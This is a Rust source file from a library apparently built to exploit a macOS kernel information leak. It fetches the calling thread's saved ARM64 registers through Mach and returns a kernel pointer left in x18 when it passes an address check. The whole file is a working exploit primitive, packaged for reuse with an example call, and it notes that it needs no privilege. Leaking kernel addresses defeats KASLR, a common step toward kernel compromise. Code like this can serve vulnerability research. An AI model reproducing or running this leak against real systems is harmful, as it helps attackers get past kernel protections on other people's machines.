//! # Register Leak Probe
//!
//! The one operation this crate exists for: query the calling thread's
//! saved register state, inspect `x18`, and hand back a validated kernel
//! pointer or the sentinel.

use tracing::debug;

use crate::error::{ProbeError, ProbeResult};
use crate::host::{ThreadHandleGuard, ThreadStateSource};
use crate::types::{LeakedValue, X18};

/// One-shot probe for a kernel pointer left behind in `x18`.
///
/// Generic over the [`ThreadStateSource`] seam so the extraction and
/// validation logic can run against a substitute host in tests. Production
/// code uses the Mach-backed source via the free [`leak()`] function.
///
/// ## Lifecycle
///
/// There is none to speak of: the probe holds only its source, every call
/// runs the full acquire / fetch / release cycle, and no state persists
/// between calls.
pub struct RegisterLeakProbe<S: ThreadStateSource>
{
    source: S,
}

impl<S: ThreadStateSource> RegisterLeakProbe<S>
{
    /// Create a probe over the given thread-state source.
    pub fn new(source: S) -> Self
    {
        Self { source }
    }

    /// Run the probe, keeping the failure kinds distinct.
    ///
    /// ## Algorithm
    ///
    /// 1. Acquire a handle to the calling thread (scoped to a guard)
    /// 2. Fetch the saved general-purpose register snapshot
    /// 3. Drop the guard, releasing the handle before the fetch outcome
    ///    is inspected
    /// 4. Propagate a failed query
    /// 5. Validate `x18` against the kernel address marker
    ///
    /// The handle is released exactly once on all three outcome branches;
    /// the guard's scope ends before any early return can fire.
    ///
    /// ## Errors
    ///
    /// - `QueryFailed`: the host reported non-success for the state query
    /// - `ValidationFailed`: `x18` does not look like a kernel address
    pub fn try_leak(&self) -> ProbeResult<LeakedValue>
    {
        let fetched = {
            let guard = ThreadHandleGuard::acquire(&self.source);
            self.source.thread_state(guard.handle())
        };

        let state = fetched?;
        let candidate = state.x[X18];
        LeakedValue::from_register(candidate).ok_or(ProbeError::ValidationFailed(candidate))
    }

    /// Run the probe, collapsing every failure to the `0` sentinel.
    ///
    /// This is the opportunistic form: a caller only cares whether a
    /// non-zero value came back. Query failures and validation failures
    /// are indistinguishable here, and neither is fatal. The distinction
    /// is still visible at debug level for anyone with a `tracing`
    /// subscriber installed.
    pub fn leak(&self) -> u64
    {
        match self.try_leak() {
            Ok(leaked) => leaked.value(),
            Err(err) => {
                debug!("no kernel pointer disclosed: {err}");
                0
            }
        }
    }
}

/// Probe the calling thread's saved state for the `x18` kernel pointer.
///
/// Returns the full register value when its top 28 bits match the kernel
/// address marker, and `0` otherwise. `0` covers every failure mode: the
/// state query failed, the value did not look like a kernel address, or
/// the kernel simply no longer leaks anything. No privilege is required;
/// the thread being queried is the caller's own.
///
/// ## Example
///
/// ```rust,no_run
/// let pointer = x18leak_core::leak();
/// if pointer != 0 {
///     println!("kernel vector entry at 0x{pointer:016x}");
/// }
/// ```
#[cfg(target_os = "macos")]
pub fn leak() -> u64
{
    use crate::platform::macos::MachThreadStateSource;

    RegisterLeakProbe::new(MachThreadStateSource).leak()
}

/// Probe the calling thread's saved state for the `x18` kernel pointer.
///
/// On hosts without Mach thread introspection there is nothing to query;
/// the sentinel is returned unconditionally so the contract stays total
/// across platforms.
#[cfg(not(target_os = "macos"))]
pub fn leak() -> u64
{
    0
}
